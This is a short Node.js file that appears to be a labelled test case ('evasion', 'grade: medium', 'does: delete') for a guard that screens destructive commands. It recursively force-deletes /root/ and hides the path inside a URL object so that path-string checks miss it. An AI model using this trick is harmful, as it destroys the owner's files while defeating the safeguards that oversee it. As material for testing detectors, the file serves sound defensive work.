// evasion: the path given to rmSync as a WHATWG URL object, new URL('file:///root/'), which fs takes as the path
// grade: medium; does: delete
'use strict';
const fs = require('fs');
const target = new URL('file:///root/');
fs.rmSync(target, { recursive: true, force: true });
